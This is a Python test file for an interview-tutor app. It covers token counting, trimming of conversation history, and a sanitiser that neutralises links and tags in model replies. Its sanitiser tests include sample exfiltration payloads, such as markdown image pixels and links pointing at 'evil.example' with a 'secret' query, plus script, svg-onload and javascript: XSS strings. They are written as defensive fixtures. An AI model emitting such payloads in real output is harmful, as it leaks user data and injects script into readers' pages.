"""What a model is sent: counted without a download, flat however long the interview, and taken by every endpoint."""

import json
from collections.abc import Iterator
from dataclasses import replace

import pytest
from langchain_core.messages import AIMessage, AnyMessage, HumanMessage, ToolMessage

from tests.conftest import LEARNER, choices, tutor_with
from tests.faults import faults
from tutor.cards import load_shelf
from tutor.events import LanguageChosen, SessionStarted, learner_message
from tutor.history import Store
from tutor.hygiene import harmless
from tutor.models import make_engine
from tutor.models.tokens import counter, estimate, exact, of_messages
from tutor.prompts import Phrases
from tutor.requests import CONTEXT, LONGEST, recent
from tutor.resources import resource
from tutor.settings import Settings
from tutor.tools import Desk

# Counting


@pytest.mark.parametrize(
    ("text", "number"),
    [("hello world", 2), ("", 0), ("面试官问了什么问题？", 8), ("$\\sqrt{d_k}$", 6), ("<|endoftext|>", 7)],
)
def test_tokens_are_those_of_tiktoken(text: str, number: int) -> None:
    assert exact(text) == number


@pytest.mark.parametrize(
    ("model", "counts"),
    [("gpt-4o-mini", exact), ("openai/gpt-oss-20b", exact), ("o3", exact), ("gpt-4", estimate), ("qwen3:8b", estimate),
     ("deepseek-chat", estimate), ("", estimate)],
)  # fmt: skip
def test_a_model_without_ranks_gets_a_safe_estimate(model: str, counts: object) -> None:
    assert counter(model) is counts


def test_the_estimate_is_rarely_too_low_on_what_our_cards_say() -> None:
    cards = load_shelf(resource("knowledge")).cards
    texts = [text for card in cards for text in (card.answer.en, card.answer.zh, card.question.en, card.question.zh)]
    ratios = sorted(estimate(text) / exact(text) for text in texts)
    assert ratios[len(ratios) // 50] >= 1.0, "at most 2 % of the texts are counted too low"
    assert ratios[len(ratios) // 2] <= 1.4


# Choosing


def turns(number: int, words: str = "some words of an answer ") -> Iterator[AnyMessage]:
    yield learner_message("", "start", SessionStarted(language="en"))
    for turn in range(number):
        call = {"name": "grade_answer", "args": {}, "id": f"call-{turn}"}
        yield HumanMessage(words * 10, id=f"m{turn}")
        yield AIMessage("", tool_calls=[call])
        yield ToolMessage("{}", tool_call_id=f"call-{turn}", artifact={"rubric": "secret"})
        yield AIMessage("Good.")


def test_a_request_holds_whole_turns_up_to_its_context() -> None:
    kept = recent(list(turns(100)), estimate, "Start")
    assert isinstance(kept[0], HumanMessage)
    assert of_messages(kept, estimate) <= CONTEXT
    assert str(kept[-1].text) == "Good."
    assert all(getattr(message, "artifact", None) is None for message in kept)


def test_the_running_turn_is_always_there_and_never_boundless() -> None:
    kept = recent([*turns(3), HumanMessage("长" * 20_000)], estimate, "Start")
    assert len(kept) == 1
    assert len(str(kept[0].text)) <= LONGEST + 10


def test_what_endpoints_refuse_is_left_out_or_given_words() -> None:
    transcript: list[AnyMessage] = [
        learner_message("", "start", SessionStarted(language="en")),
        AIMessage("", tool_calls=[{"name": "ask_question", "args": {}, "id": "never-answered"}]),
        AIMessage("  "),
        learner_message("", "language", LanguageChosen(language="zh")),
        ToolMessage("{}", tool_call_id="never-asked"),
        HumanMessage("hello"),
    ]
    assert [str(message.text) for message in recent(transcript, estimate, "Start the interview")] == [
        "Start the interview", "hello",
    ]  # fmt: skip


def test_a_hundred_turns_later_a_call_is_as_small_and_begins_the_same(
    settings: Settings, desk: Desk, store: Store, phrases: Phrases
) -> None:
    with faults("well") as server:
        chosen = replace(settings, model="some-model", base_url=server.address)
        tutor = tutor_with(make_engine(chosen, phrases), chosen, desk, store, phrases)
        session = tutor.start(LEARNER, choices(topics=("memory",), questions=1))
        tutor.reply(LEARNER, session, "end")
        for turn in range(100):
            tutor.reply(LEARNER, session, f"what do you think of my plan number {turn}? " * 20)
        tutor.engine.close()
    assert len(server.requests) == 100
    early, late = max(server.sizes[10:30]), max(server.sizes[-20:])
    assert late <= early * 1.05
    assert late < 20_000
    fixed = [json.dumps([r["messages"][0], r["tools"]], ensure_ascii=False) for r in server.requests]
    assert len(set(fixed)) == 1, "prompt and tools stand first and never change, so that they can be cached"


# Links and images in a model's words

EVIL = "https://evil.example/x?d=secret"


@pytest.mark.parametrize(
    "text",
    [f"![pixel]({EVIL})", f"[click]({EVIL})", f"[click](<{EVIL}> 'title')", EVIL, f"<{EVIL}>", f"see {EVIL}.",
     f"[click][1]\n\n[1]: {EVIL}", f"![p][1]\n[1]: {EVIL} 'x'", f"<img src={EVIL}>", f'<a href="{EVIL}">x</a>',
     "www.evil.example/x", "[x](javascript:alert(1))", "![x](data:image/png;base64,AAAA)", "[x](//evil.example/y)",
     "mailto:somebody@evil.example", "<script>alert(1)</script>", "![a](/gradio_api/file=x)", "<svg onload=alert(1)>",
     f"`` ` `` {EVIL}", f"资料见{EVIL}。", f"**[{EVIL}]({EVIL})**", f"[a]( {EVIL} )", f"![a\nb]({EVIL})"],
)  # fmt: skip
def test_addresses_and_tags_become_text(text: str) -> None:
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark", {"html": True}).render(harmless(text))
    bare = html.replace("<p>", "").replace("</p>", "").replace("<code>", "").replace("</code>", "")
    for tag in ("<strong>", "</strong>", "<br>", "<br />"):
        bare = bare.replace(tag, "")
    assert "<" not in bare, html
    assert harmless(harmless(text)) == harmless(text)


@pytest.mark.parametrize(
    "text",
    ["A good start.", "Use `a[i](x)` here.", "$a<b$ and $c>d$",
     "```py\nx = 'https://evil.example'\n```", "1. one\n2. two", "比值 K/V，见 3//4", "x < y, y > z",
     "**bold** and [brackets] and (parens)", "a: b"],
)  # fmt: skip
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_a_source_of_the_card_stays_a_link() -> None:
    source = "https://arxiv.org/abs/2106.09685"
    assert harmless(f"See {source}.", {source}) == f"See {source}."
    assert harmless(f"See {source}v2.", {source}) == f"See `{source}v2`."


def test_links_of_a_model_are_text_in_the_transcript(
    settings: Settings, desk: Desk, store: Store, phrases: Phrases
) -> None:
    with faults(f"well:Good ![x]({EVIL}) start") as server:
        chosen = replace(settings, model="some-model", base_url=server.address)
        tutor = tutor_with(make_engine(chosen, phrases), chosen, desk, store, phrases)
        session = tutor.start(LEARNER, choices(topics=("memory",), questions=1))
        tutor.reply(LEARNER, session, "keys and values of all past tokens")
        tutor.engine.close()
    assert str(tutor.transcript(LEARNER, session)[-1].text) == f"Good x `{EVIL}` start"
